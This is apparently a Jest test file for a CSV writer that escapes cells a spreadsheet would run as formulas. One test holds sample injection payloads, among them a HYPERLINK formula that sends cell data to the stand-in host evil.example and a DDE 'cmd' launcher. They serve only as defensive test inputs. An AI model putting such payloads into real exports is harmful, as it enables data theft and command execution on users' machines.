import { parse } from 'csv-parse/sync';
import { toCsv } from './csv';

describe('toCsv', () => {
  it('writes rows as CSV, quoting where needed, one line per row', () => {
    expect(
      toCsv([
        ['Nama', 'NIK'],
        ['Siti, "Ibu"', '3171014501900001'],
        ['', null],
      ]),
    ).toBe('Nama,NIK\n"Siti, ""Ibu""",3171014501900001\n,\n');
  });

  it('puts an apostrophe before every text cell that a spreadsheet would run as a formula', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/x?"&D2,"Joko")',
      '=IMAGE("http://evil.example/i.png")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1)',
      '\tx',
      '\rx',
      '＝1+1', // full-width signs, which some spreadsheets read as their ASCII forms
      '＋1',
      '－1',
      '＠SUM(1)',
    ];
    const [cells] = parse(toCsv([hostile])) as string[][];
    expect(cells).toEqual(hostile.map((text) => `'${text}`));
  });

  it('keeps numbers numbers (a negative number is data), but neutralises the same as text', () => {
    expect(toCsv([[-5, 0, 12.5, '-5', '5', 'Budi - Siti']])).toBe("-5,0,12.5,'-5,5,Budi - Siti\n");
  });

  it('takes objects with named columns and a header', () => {
    const rows = [{ code: '31.71', name: '=1', received: -1 }];
    expect(
      toCsv(rows, [
        { key: 'code', header: 'kota_code' },
        { key: 'name', header: 'kota_name' },
        { key: 'received', header: 'received' },
      ]),
    ).toBe("kota_code,kota_name,received\n31.71,'=1,-1\n");
  });
});
